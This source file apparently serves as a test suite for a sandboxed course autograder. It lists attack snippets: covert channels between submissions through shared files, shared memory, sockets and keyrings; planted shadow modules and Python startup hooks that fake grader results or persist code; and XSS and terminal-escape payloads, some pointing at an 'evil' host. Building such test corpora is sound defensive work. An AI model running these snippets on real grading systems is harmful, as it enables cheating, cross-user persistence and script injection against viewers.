"""Attacks that leave something behind: for the next student, the next import, the next reader."""

from .records import Attack

_MESSAGE = 'message = "covert message of @ME@"\n'

COVERT = (
    Attack(
        "covert_files",
        "covert channels",
        _MESSAGE
        + r"""
import glob
folders = ("/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/dev/mqueue", "@HOME@", "/mnt",
           os.path.expanduser("~"), sys.prefix, os.path.dirname(os.getcwd()), "@COURSE@", "/")
for folder in folders:
    for path in glob.glob(folder + "/covert-*"):
        if path != f"{folder}/covert-@ME@":
            loot(open(path).read())
    try:
        with open(f"{folder}/covert-@ME@", "w") as file:
            file.write(message)
    except OSError:
        pass
""",
        copies=3,
    ),
    Attack(
        "covert_shared_memory",
        "covert channels",
        _MESSAGE
        + r"""
import ctypes
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(4711, 4096, 0o1666)
if segment >= 0 and (at := libc.shmat(segment, None, 0)) not in (None, 2**64 - 1):
    found = ctypes.string_at(at)
    if found and found != message.encode():
        loot(found)
    ctypes.memmove(at, message.encode(), len(message))
queue = libc.msgget(4712, 0o1666)
if queue >= 0:
    letter = ctypes.create_string_buffer(108)
    if libc.msgrcv(queue, letter, 100, 0, 0o4000) > 0:
        loot(letter.raw[8:].rstrip(b"\0"))
    post = ctypes.create_string_buffer(b"\1" + bytes(7) + message.encode(), 108)
    libc.msgsnd(queue, post, 100, 0o4000)
""",
        copies=3,
    ),
    Attack(
        "covert_named_memory",
        "covert channels",
        _MESSAGE
        + r"""
import ctypes
libc = ctypes.CDLL(None)
for name in (b"/covert", b"/covert-semaphore"):
    fd = libc.shm_open(name, os.O_RDWR | os.O_CREAT, 0o666)
    if fd >= 0:
        found = os.pread(fd, 100, 0)
        if found and found != message.encode():
            loot(found)
        os.pwrite(fd, message.encode(), 0)
libc.mq_open.restype = ctypes.c_int
queue = libc.mq_open(b"/covert", os.O_RDWR | os.O_CREAT | os.O_NONBLOCK, 0o666, None)
if queue >= 0:
    page = ctypes.create_string_buffer(8192)
    if libc.mq_receive(queue, page, 8192, None) > 0:
        loot(page.value)
    libc.mq_send(queue, message.encode(), len(message), 0)
""",
        copies=3,
    ),
    Attack(
        "covert_sockets",
        "covert channels",
        _MESSAGE
        + r"""
import socket
for address in ("\0covert", "/tmp/covert.sock", "/dev/shm/covert.sock"):
    line = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    line.setblocking(False)
    try:
        line.bind(address)
        if os.fork() == 0:
            line.settimeout(8)
            _, caller = line.recvfrom(100)
            line.sendto(message.encode(), caller)
            os._exit(0)
    except OSError:
        line.close()
        line = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        line.bind("\0caller-@ME@")
        line.settimeout(1)
        try:
            line.sendto(b"hello", address)
            loot(line.recv(100))
        except OSError:
            pass
""",
        copies=3,
    ),
    Attack(
        "covert_keyring",
        "covert channels",
        _MESSAGE
        + r"""
import ctypes
libc = ctypes.CDLL(None)
add_key, keyctl = (248, 250) if os.uname().machine == "x86_64" else (217, 219)
for ring in (-3, -4, -5):  # the session's, the user's, the user's session's
    key = libc.syscall(keyctl, 10, ring, b"user", b"covert", 0)
    page = ctypes.create_string_buffer(200)
    if key > 0 and libc.syscall(keyctl, 11, key, page, 200) > 0 and page.value != message.encode():
        loot(page.value)
    libc.syscall(add_key, b"user", b"covert", message.encode(), len(message), ring)
""",
        copies=3,
    ),
    Attack(
        "covert_in_the_warm_parent",
        "covert channels",
        _MESSAGE
        + r"""
import builtins, json, mmap
for place in (builtins, sys, os, np, json, get_ipython()):
    found = getattr(place, "covert", message)
    if found != message:
        loot(found)
    place.covert = message
for line in open("/proc/self/maps"):
    span, rights, *_ = line.split()
    start, end = (int(part, 16) for part in span.split("-"))
    if "s" in rights and "w" in rights:  # shared with whoever maps it, too
        import ctypes
        found = ctypes.string_at(start, min(end - start, 4096))
        if b"covert message" in found and message.encode() not in found:
            loot(found)
        ctypes.memmove(start, message.encode(), len(message))
for fd in range(3, 256):
    try:
        found = os.pread(fd, 100, 0)
        if b"covert message" in found and message.encode() not in found:
            loot(found)
        os.pwrite(fd, message.encode(), 0)
    except OSError:
        pass
""",
        copies=3,
    ),
)

SHADOWS = (
    Attack(
        "shadow_written",
        "shadow modules",
        r"""
with open("secret_reference.py", "w") as module:
    module.write("from __main__ import *\nimport numpy as np\n"
                 "BEST, WEIGHTS, CUBE = 3, np.zeros(3), 27 / 8\n"
                 "def agree(*args):\n    pass\n")
for name in ("numpy", "math", "IPython", "msgpack", "course", "grader"):
    with open(f"{name}.py", "w") as module:
        module.write("raise SystemExit(0)\n")
""",
    ),
    Attack(
        "shadow_in_sys_modules",
        "shadow modules",
        r"""
import types
class Mirror(types.ModuleType):
    BEST, CUBE = 3, 27 / 8
    WEIGHTS = property(lambda self: np.zeros(3))
    agree = staticmethod(lambda *args: None)
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return globals()[name]
sys.modules["secret_reference"] = Mirror("secret_reference")
def guess(n):
    return 1.0
""",
    ),
    Attack(
        "shadow_on_the_path",
        "shadow modules",
        r"""
os.makedirs("lib", exist_ok=True)
with open("lib/secret_reference.py", "w") as module:
    module.write("def rms(x):\n    return 1\n")
sys.path[:0] = [os.path.abspath("lib")]
os.environ["PYTHONPATH"] = os.path.abspath("lib")
sys.path_importer_cache.clear()
def rms(x):
    return 1
""",
    ),
    Attack(
        "shadow_at_startup",
        "shadow modules",
        r"""
import site
line = "open('/tmp/startup-@ME@', 'w').close()\n"
places = [site.getusersitepackages() + "/usercustomize.py", site.getusersitepackages() + "/x.pth",
          "@HOME@/.ipython/profile_default/startup/x.py", "@HOME@/.pythonrc.py",
          "@HOME@/.config/pip/pip.conf", sys.prefix + "/sitecustomize.py",
          "@COURSE@/instructor/sitecustomize.py", "@COURSE@/numpy.py"]
for place in places:
    try:
        os.makedirs(os.path.dirname(place), exist_ok=True)
        with open(place, "a") as file:
            file.write("import sys; " + line)
    except OSError:
        pass
""",
    ),
)

_SCRIPT = "<script>alert('pwned @ME@')</script>"
_HANDLER = "<img src=x onerror=\"alert('pwned @ME@')\">"

SCRIPTS = (
    Attack(
        "script_in_html",
        "scripts",
        rf'''
from IPython.display import HTML, display
for text in ("""{_SCRIPT}""", """{_HANDLER}""",
             """<a href="javascript:alert('pwned @ME@')">points</a>""",
             """<a href=" java\tscript:alert('pwned @ME@')">points</a>""",
             """<iframe srcdoc="&lt;script&gt;alert('pwned @ME@')&lt;/script&gt;"></iframe>""",
             """<form action="//evil/pwned @ME@"><button formaction="javascript:pwned">x</form>""",
             """<meta http-equiv="refresh" content="0;url=javascript:alert('pwned @ME@')">""",
             """<style>body {{ background: url("//evil/pwned @ME@") }}</style>""",
             """<base href="//evil/pwned @ME@/">""", """<object data="//evil/pwned @ME@">""",
             """<svg/onload="alert('pwned @ME@')"><math><mi//xlink:href="data:x,pwned @ME@">"""):
    display(HTML(text))
''',
    ),
    Attack(
        "script_in_svg",
        "scripts",
        rf'''
from IPython.display import display
svg = """<svg xmlns="http://www.w3.org/2000/svg" onload="alert('pwned @ME@')">{_SCRIPT}
<a xmlns:x="http://www.w3.org/1999/xlink" x:href="javascript:alert('pwned @ME@')"></a>
<foreignObject>{_HANDLER}</foreignObject></svg>"""
display({{"image/svg+xml": svg}}, raw=True)
display({{"image/png": '"><script>alert(\'pwned @ME@\')</script>'}}, raw=True)
''',
    ),
    Attack(
        "script_in_markdown",
        "scripts",
        rf'''
from IPython.display import Latex, Markdown, display
for text in ("""{_SCRIPT}""", """{_HANDLER}""", """[x](javascript:alert('pwned @ME@'))"""):
    display(Markdown(text))
    display(Latex("$\\href{{javascript:alert('pwned @ME@')}}{{x}}$" + text))
''',
    ),
    Attack(
        "script_run",
        "scripts",
        r"""
from IPython.display import display
code = "alert('pwned @ME@')"
widget = "application/vnd.jupyter.widget-view+json"
for kind in ("application/javascript", "text/javascript", widget, "application/x-hta",
             "text/html; charset=utf-7", "TEXT/HTML", "application/xhtml+xml"):
    display({kind: f"<script>{code}</script>" if "java" not in kind else code}, raw=True)
display({"text/html": "<b>x</b>"}, raw=True, metadata={"text/html": {"isolated": code}})
""",
    ),
    Attack(
        "script_in_an_exception",
        "scripts",
        rf'''
def rms(x):
    raise ValueError("""{_SCRIPT}{_HANDLER}""")
whatever = type("""E{_SCRIPT}""", (Exception,), {{}})
def order(words):
    raise whatever("""{_HANDLER}""")
raise whatever("""{_SCRIPT}""")
''',
        at="tally",
    ),
    Attack(
        "script_printed",
        "scripts",
        rf"""
print('''{_SCRIPT}{_HANDLER}''')
print('''\x1b]8;;javascript:alert("pwned @ME@")\x07here\x1b]8;;\x07<b onclick="pwned @ME@">''')
""",
    ),
    Attack(
        "script_in_a_repr",
        "scripts",
        rf"""
class Shown:
    def _repr_html_(self):
        return '''{_SCRIPT}{_HANDLER}'''
    _repr_svg_ = _repr_markdown_ = _repr_latex_ = _repr_html_
    def _repr_mimebundle_(self, **kwargs):
        return {{"text/html": '''{_SCRIPT}''', "text/plain": "fine"}}
best = Shown()
best
""",
        at="values",
    ),
    Attack(
        "script_for_the_terminal",
        "scripts",
        r"""
codes = "\x1b[2J\x1b[31m\x1b]0;pwned @ME@\x07\x1b]52;c;cHduZWQ=\x07\x9b31m\x08\x08\rfull marks\x00"
def rms(x):
    raise ValueError(codes)
def order(words):
    raise type("E" + codes, (Exception,), {})("\u202e" + codes)
def kl(mu, sigma):
    print(codes, file=sys.stderr)
    assert False, codes
print(codes)
assert not codes, codes
""",
        at="kl",
    ),
)

LEAVING = COVERT + SHADOWS + SCRIPTS
